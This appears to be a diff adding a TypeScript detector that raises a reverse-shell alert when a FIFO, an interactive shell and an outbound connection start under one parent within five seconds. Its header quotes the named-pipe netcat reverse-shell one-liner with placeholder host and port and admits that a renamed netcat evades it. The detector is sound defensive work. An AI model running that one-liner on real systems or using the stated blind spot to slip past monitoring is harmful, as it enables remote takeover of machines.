@@ -1,0 +1,44 @@
+/**
+ * The same parent made a FIFO, started a shell without a script, and a connection, within 5 seconds: what remains of
+ * `mkfifo f; cat f | sh -i | nc H P > f` when it is typed at a prompt. Two connections around a shell count too.
+ *
+ * Blind spot: the parts are known by their names; a renamed netcat is not.
+ */
+import { z } from "zod";
+import { correlator, type Match } from "./detector.ts";
+import { isLoopback } from "./knowledge/addresses.ts";
+import { belowPackageManager } from "./knowledge/ancestry.ts";
+import { connection, makesFifo, readsCommands } from "./knowledge/network-shells.ts";
+import { Siblings } from "./knowledge/siblings.ts";
+
+const WINDOW_MS = 5000;
+
+export const reverseShellSiblings = correlator({
+  alert: "reverse-shell",
+  on: ["process.started"],
+  settings: z.object({}),
+  memory: () => new Siblings(WINDOW_MS),
+  step(started, siblings): Match | undefined {
+    const found = shellWithConnection(siblings, started);
+    if (!found || found.listens || !found.host || isLoopback(found.host)) return undefined;
+    const { process } = started;
+    if (belowPackageManager(process)) return undefined;
+    return {
+      subject: `reverse shell ${found.host}`,
+      reason: `a FIFO, a shell and a connection to ${found.host} were started together`,
+      evidence: { process, container: process.container, destination: { hostname: found.host, port: found.port } },
+    };
+  },
+});
+
+/** The connection of a FIFO, shell and connection triple that this start completes. */
+export function shellWithConnection(siblings: Siblings, started: Parameters<Siblings["add"]>[0]) {
+  const family = siblings.add(started);
+  if (family.length < 3) return undefined;
+  const own = family.at(-1)?.command;
+  if (!own || (!makesFifo(own) && !readsCommands(own) && !connection(own))) return undefined;
+  if (!family.some(({ command }) => readsCommands(command))) return undefined;
+  const ends = family.flatMap(({ command }) => connection(command) ?? []);
+  if (ends.length === 0 || (ends.length < 2 && !family.some(({ command }) => makesFifo(command)))) return undefined;
+  return ends[0];
+}
